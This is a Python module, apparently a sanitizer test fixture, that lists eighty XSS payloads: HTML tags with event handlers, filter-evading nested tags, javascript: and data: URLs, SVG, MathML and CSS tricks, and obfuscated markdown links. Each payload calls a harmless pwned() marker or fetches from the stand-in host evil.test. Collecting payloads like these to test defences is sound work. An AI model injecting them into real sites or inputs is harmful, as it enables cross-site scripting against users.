"""八十段想在网页里跑起来的文字：标签、事件、markdown 里的地址、编码的花样、导入的对话里的古怪。

每段若是跑了脚本，就会调用 ``pwned()``；若是取了外部的东西，就会请求 ``evil.test``。
"""

from __future__ import annotations

_RUN = "pwned()"
_AWAY = "http://evil.test/x"

_TAGS = (
    "<script>{run}</script>",
    "<script src={away}></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<SCRIPT>{run}</SCRIPT>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "--><script>{run}</script>",
    "<script type=module>import '{away}.js'</script>",
    "<img src=x onerror={run}>",
    "<img src='{away}.png'>",
    "<img src=x onerror=&#112;wned()>",
    '<img/src="x"/onerror="{run}">',
    "<img srcset='{away}.png 1x'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='{away}.svg#x'></use></svg>",
    "<svg><foreignObject><body onload={run}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:{run}'>x</maction></math>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='{away}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<object data='{away}'></object>",
    "<embed src='{away}'>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video src=x onerror={run}></video>",
    "<video poster='{away}.png'></video>",
    "<audio src='{away}.mp3' autoplay></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<form action='javascript:{run}'><button autofocus>x</button></form>",
    "<form id=send><input name=submit></form>",
    "<base href='{away}/'>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href='{away}.css'>",
    "<link rel=prefetch href='{away}'>",
    "<link rel=import href='{away}'>",
    "<style>@import '{away}.css';</style>",
    "<style>*{{background:url({away}.png)}}</style>",
    "<div style='background:url({away}.png)'>x</div>",
    "<div style='animation:x 1s' onanimationstart={run}>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xss onclick={run} style='display:block' tabindex=1 id=message>x</xss>",
    "<dialog open onclose={run}>x</dialog>",
    "<table background='{away}.png'><tr><td>x</table>",
    "<isindex type=image src=1 onerror={run}>",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
)
_MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "[x](blob:{away})",
    "[x](//evil.test/x)",
    '[x](http://e.org"onmouseover="{run})',
    "[a](http://e.org) ![x]({away}.png)",
    "![x]({away}.png)",
    "![x](javascript:{run})",
    "![x](data:image/svg+xml,<svg onload={run}>)",
    "<javascript:{run}>",
    "[x]: javascript:{run}\n\n[x]",
    "`<img src=x onerror={run}>`",
    "```html\n<script>{run}</script>\n```",
    '```"><img src=x onerror={run}>\ncode\n```',
    "| <img src=x onerror={run}> | [x](javascript:{run}) |\n|---|---|\n| <script>{run}</script> | ![x]({away}.png) |",
    "- <svg onload={run}>\n  > <iframe src=javascript:{run}>",
    "# <img src=x onerror={run}>",
    "**<img src=x onerror={run}>** *<svg onload={run}>*",
    "\u202e<script>{run}</script>\u0000\ufeff<img src=x onerror={run}>",
)

PAYLOADS = tuple(text.format(run=_RUN, away=_AWAY) for text in (*_TAGS, *_MARKDOWN))
"""全部八十段。"""
QUICK = PAYLOADS[::7]
"""快速档的十二段。"""
